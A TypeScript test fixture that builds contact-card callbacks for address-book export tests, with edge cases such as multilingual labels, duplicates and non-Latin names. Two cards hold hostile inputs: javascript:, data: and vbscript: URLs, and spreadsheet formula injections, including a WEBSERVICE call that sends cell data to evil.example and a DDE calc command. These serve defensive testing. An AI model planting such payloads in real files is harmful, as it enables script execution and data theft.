import { kaleyraCallback, readSample } from "./callbacks";

/*
 * The contact cards the address-book tests export: the two documented samples and 56 more, 58 in
 * all as in the bulk export. Each one is something real cards carry and real clients trip
 * over: phone labels in many languages and custom ones, national numbers, masked ids, extensions,
 * two identical cards in different messages, quotes, semicolons, line breaks, long text that must
 * fold, scripts other than Latin, hostile URLs and formulas, cards with almost nothing.
 */

type Card = Record<string, unknown>;

const handCrafted: Card[] = [
  {
    name: { formatted_name: "Lucía Fernández", first_name: "Lucía", last_name: "Fernández" },
    phones: [
      { phone: "612 34 56 78", wa_id: "34612345678", type: "Móvil" },
      { phone: "+34 912 34 56 70", type: "Casa" },
      { phone: "+34 933 00 11 22", type: "Trabajo" },
      { phone: "+34 699 11 22 33", type: "Abuela" },
    ],
    emails: [{ email: "lucia@example.es", type: "Casa" }],
  },
  {
    name: { formatted_name: "Jürgen Müller", first_name: "Jürgen", last_name: "Müller" },
    phones: [
      { phone: "+49 151 23456789", wa_id: "4915123456789", type: "Handy" },
      { phone: "+49 30 1234567", type: "Büro" },
    ],
    emails: [{ email: "juergen@example.de", type: "Privat" }],
    addresses: [{ street: "Hauptstraße 5", city: "Berlin", zip: "10115", country: "Deutschland", country_code: "DE", type: "Büro" }],
    org: { company: "Müller & Söhne GmbH", department: "Einkauf", title: "Einkäufer" },
  },
  {
    name: { formatted_name: "Chloé Martin", first_name: "Chloé", last_name: "Martin" },
    phones: [{ phone: "+33 6 12 34 56 78", wa_id: "33612345678", type: "Portable" }],
    addresses: [{ street: "12 rue de la Paix", city: "Paris", zip: "75002", country: "France", type: "Domicile" }],
  },
  {
    name: { formatted_name: "João Silva", first_name: "João", last_name: "Silva" },
    phones: [{ phone: "+55 11 91234-5678", wa_id: "5511912345678", type: "Celular" }],
    birthday: "1990-07-21",
  },
  {
    name: { formatted_name: "Priya Sharma", first_name: "Priya", last_name: "Sharma" },
    phones: [{ phone: "+91 9XXXXXX 987", wa_id: "91XXXXXXXXXX", type: "MOBILE" }],
  },
  // Two identical cards in two messages: an importer that keys cards by content merges them.
  { name: { formatted_name: "Luis Gómez", first_name: "Luis", last_name: "Gómez" }, phones: [{ phone: "+34 655 44 33 22", wa_id: "34655443322", type: "CELL" }] },
  { name: { formatted_name: "Luis Gómez", first_name: "Luis", last_name: "Gómez" }, phones: [{ phone: "+34 655 44 33 22", wa_id: "34655443322", type: "CELL" }] },
  {
    name: { formatted_name: "García; Hermanos", first_name: "Pedro", last_name: "García; Hermanos" },
    org: { company: "García; Hermanos, S.L.", department: "Ventas; Norte", title: "Jefe; de ventas" },
    phones: [{ phone: "+34 600 11 22 33", type: "WORK" }],
  },
  {
    name: { formatted_name: "Ana\nRuiz", first_name: "Ana", last_name: "Ruiz" },
    org: { company: "Acme\nIberia", title: "Jefa\r\nde ventas" },
    emails: [{ email: "ana.ruiz@example.com", type: "WORK" }],
  },
  {
    name: {
      formatted_name: "María de los Ángeles Fernández de Córdoba y Pacheco Hurtado de Mendoza Álvarez de Toledo",
      first_name: "María de los Ángeles",
      last_name: "Fernández de Córdoba y Pacheco Hurtado de Mendoza Álvarez de Toledo",
    },
    phones: [{ phone: "+34 611 22 33 44", type: "CELL" }],
    addresses: [{ street: "Calle de la Princesa 25, 3º izquierda\nPortal B, escalera 2", city: "Madrid", zip: "28008", country: "España", type: "HOME" }],
  },
  {
    name: { formatted_name: "Web Links", first_name: "Web", last_name: "Links" },
    urls: [
      { url: "javascript:alert(document.cookie)", type: "HOME" },
      { url: "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==" },
      { url: "vbscript:msgbox(1)" },
      { url: "https://example.com/a,b;c?q=x y", type: "WORK" },
      { url: "clinicasol.es/equipo" },
    ],
    emails: [{ email: "links@example.com" }],
  },
  { name: { formatted_name: "Sin Año", first_name: "Sin", last_name: "Año" }, phones: [{ phone: "+34 622 33 44 55", type: "CELL" }], birthday: "--03-09" },
  { name: { formatted_name: "Texto Cumple", first_name: "Texto", last_name: "Cumple" }, emails: [{ email: "cumple@example.com" }], birthday: "9 de marzo" },
  { name: { formatted_name: "Zoë 😀👨‍👩‍👧", first_name: "Zoë" }, phones: [{ phone: "+44 7911 123456", wa_id: "447911123456", type: "IPHONE" }] },
  { name: { formatted_name: "محمد بن عبد الله", first_name: "محمد" }, phones: [{ phone: "+971 50 123 4567", wa_id: "971501234567", type: "CELL" }] },
  { name: { formatted_name: "אברהם כהן", first_name: "אברהם", last_name: "כהן" }, emails: [{ email: "avraham@example.co.il", type: "HOME" }] },
  { name: { formatted_name: "王小明", first_name: "小明", last_name: "王" }, phones: [{ phone: "+86 139 1234 5678", wa_id: "8613912345678", type: "CELL" }] },
  { phones: [{ phone: "+39 312 345 6789", wa_id: "393123456789" }] },
  { emails: [{ email: "only.email@example.com", type: "WORK" }] },
  {},
  {
    name: { formatted_name: 'Ana "La Jefa" Ruiz', first_name: 'Ana "La Jefa"', last_name: "Ruiz" },
    emails: [{ email: "jefa@example.com", type: "Gym" }],
    phones: [{ phone: "+52 1 55 1234 5678", type: "Celular" }],
  },
  { name: { formatted_name: "Call Center", first_name: "Call", last_name: "Center" }, phones: [{ phone: "+1 415 555 0100 ext. 12", type: "WORK" }] },
  {
    name: { formatted_name: "Oficina Central", first_name: "Oficina", last_name: "Central" },
    phones: [
      { phone: "+34 910 00 00 01", type: "MAIN" },
      { phone: "+34 910 00 00 02", type: "Fax trabajo" },
      { phone: "+34 910 00 00 03", type: "Pager" },
    ],
  },
  {
    name: { formatted_name: "Muchos Datos", first_name: "Muchos", last_name: "Datos" },
    phones: ["1", "2", "3", "4", "5", "6"].map((digit) => ({ phone: `+34 61${digit} 00 00 0${digit}`, type: digit === "6" ? "Vecino" : "CELL" })),
    emails: ["uno", "dos", "tres", "cuatro"].map((user) => ({ email: `${user}@example.com`, type: user === "cuatro" ? "WORK" : "HOME" })),
    addresses: ["Madrid", "Sevilla", "Bilbao"].map((city) => ({ street: `Calle ${city} 1`, city, country: "Spain", type: city === "Bilbao" ? "Otro" : "HOME" })),
  },
  { name: { formatted_name: "Back\\Slash", first_name: "Back\\Slash" }, phones: [{ phone: "+34 633 44 55 66", type: "CELL" }] },
  { name: { formatted_name: "Ruiz, Ana María", first_name: "Ana María", last_name: "Ruiz" }, phones: [{ phone: "+34 644 55 66 77", type: "Celular" }] },
  {
    name: { formatted_name: '=HYPERLINK("https://evil.example","Click")', first_name: "Ann;=WEBSERVICE(\"https://evil.example/?\"&A1)" },
    phones: [{ phone: "+34 655 66 77 88", type: "CELL" }],
    org: { company: "-2+3+cmd|' /C calc'!A0" },
  },
];

/** Everyday cards to fill the export to the 58: phones from many countries, labels from many languages. */
const fillerPhones = [
  ["+34 612 00 00 01", "34612000001", "Móvil"],
  ["+49 151 20000002", "4915120000002", "Handy"],
  ["+33 6 20 00 00 03", "33620000003", "Portable"],
  ["+55 11 92000-0004", "5511920000004", "Celular"],
  ["+91 98200 00005", "919820000005", "Mobile"],
  ["+1 212 555 0106", null, "Work"],
  ["+44 7911 200007", "447911200007", "CELL"],
  ["+39 320 000 0008", "393200000008", "Cellulare"],
  ["+31 6 20000009", "31620000009", "Mobiel"],
  ["+90 532 200 00 10", "905322000010", "Cep"],
  ["+62 812 2000 0011", "6281220000011", "HP"],
  ["+7 912 200-00-12", "79122000012", "Мобильный"],
  ["+27 82 200 0013", "27822000013", "Home"],
  ["+61 412 200 014", "61412200014", "Trabajo"],
  ["+81 90-2000-0015", "819020000015", "Casa"],
  ["+234 803 200 0016", "2348032000016", "Büro"],
] as const;

const filler: Card[] = Array.from({ length: 28 }, (_, index) => {
  const [phone, waId, type] = fillerPhones[index % fillerPhones.length]!;
  const n = String(index + 1).padStart(2, "0");
  return {
    name: { formatted_name: `Cliente ${n} Pérez`, first_name: `Cliente ${n}`, last_name: "Pérez" },
    phones: [{ phone, ...(waId ? { wa_id: waId } : {}), type }],
    ...(index % 3 === 0 ? { emails: [{ email: `cliente${n}@example.com`, type: index % 2 === 0 ? "HOME" : "WORK" }] } : {}),
    ...(index % 5 === 0 ? { org: { company: `Empresa ${n}`, title: "Gerente" } } : {}),
  };
});

/**
 * The callback bodies, in the order to post them: the two samples, then messages of one to three
 * cards each (every message a new id, so no card is a duplicate delivery).
 */
export function exportCorpusCallbacks(campaign: string): unknown[] {
  const cards = [...handCrafted, ...filler];
  const bodies: unknown[] = [readSample("kaleyra-contact-message"), readSample("meta-contacts-message")];
  for (let index = 0, message = 0; index < cards.length; message++) {
    const size = message % 7 === 3 ? 3 : message % 5 === 1 ? 2 : 1;
    bodies.push(
      kaleyraCallback({
        messageId: `wamid.corpus-${message}`,
        cards: cards.slice(index, index + size),
        from: "34600111222",
        profileName: "Marta López",
        timestamp: String(1_763_978_400 + message * 60),
        extraInfo: { ref: campaign, ref1: "agents; \"export\" test", ref2: null },
      }),
    );
    index += size;
  }
  return bodies;
}

/** How many cards exportCorpusCallbacks shares: 1 + 2 from the samples, the rest from the corpus. */
export const exportCorpusSize = 3 + handCrafted.length + filler.length;
